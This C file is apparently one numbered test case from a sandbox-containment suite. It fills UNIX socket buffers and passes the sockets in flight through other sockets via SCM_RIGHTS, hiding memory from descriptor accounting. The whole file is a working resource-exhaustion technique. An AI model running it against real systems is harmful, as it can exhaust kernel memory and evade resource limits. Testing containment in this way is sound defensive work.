// I-66: sockets with full queues that are themselves on their way through another socket: argv[1] MiB that no table of descriptors shows.
#include "attack.h"

#include <sys/socket.h>

static bool send_away(int through, int fd) {
        union {
                struct cmsghdr align;
                char bytes[CMSG_SPACE(sizeof(int))];
        } control = {};
        struct iovec v = {"x", 1};
        struct msghdr m = {.msg_iov = &v, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control};
        struct cmsghdr *c = CMSG_FIRSTHDR(&m);

        c->cmsg_level = SOL_SOCKET;
        c->cmsg_type = SCM_RIGHTS;
        c->cmsg_len = CMSG_LEN(sizeof(int));
        memcpy(CMSG_DATA(c), &fd, sizeof fd);
        if (sendmsg(through, &m, MSG_DONTWAIT) != 1)
                return false;
        close(fd);
        return true;
}

int main(int argc, char **argv) {
        size_t mib = (size_t)atoi(arg(argc, argv, 1)), got = 0;
        static char b[65536];
        int carrier[2] = {-1, -1};

        for (int i = 0; i < 20000 && got < mib << 20; i++) {
                int s[2];

                if (i % 100 == 0 && socketpair(AF_UNIX, SOCK_STREAM, 0, carrier) < 0)
                        contained("socketpair after %zu KiB", got >> 10);
                if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, s) < 0)
                        contained("socketpair after %zu KiB", got >> 10);
                for (int k = 0; k < 2; k++)
                        for (ssize_t n; (n = write(s[k], b, sizeof b)) > 0;)
                                got += (size_t)n;
                for (int k = 0; k < 2; k++)
                        if (!send_away(carrier[0], s[k]))
                                contained("sendmsg after %zu KiB", got >> 10);
        }
        sleep_msec(argc > 2 ? atoi(argv[2]) : 0);
        escaped("%zu MiB in sockets that are on their way", got >> 20);
}
